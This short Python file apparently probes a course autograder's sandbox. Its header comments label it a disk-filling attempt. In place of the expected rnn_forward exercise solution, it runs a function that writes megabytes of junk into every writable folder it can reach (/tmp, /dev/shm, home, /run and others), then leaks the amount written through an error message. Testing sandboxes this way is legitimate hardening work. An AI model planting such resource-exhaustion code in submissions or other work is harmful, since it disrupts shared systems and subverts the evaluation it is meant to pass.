# Tries: to fill the disk (200 MB at most) in every folder that it may write to.
# Earns: nothing
# Status: ok
# Says: loot: at most 20 MB

# %%
import os


def fill():
    written = 0
    for place in ("/tmp", "/dev/shm", ".", os.path.expanduser("~"), "/var/tmp", "/run"):
        for part in range(8):
            try:
                with open(f"{place}/course-attack-{part}", "wb") as file:
                    for _ in range(4):
                        written += file.write(b"x" * 2**20)
                        file.flush()
            except OSError:
                pass
    return "at most 20 MB" if written <= 20 * 2**20 else f"{written} bytes"


# %%
def rnn_forward(x, h_0, W_hx, W_hh, b_h):
    raise RuntimeError(f"loot: {fill()}")
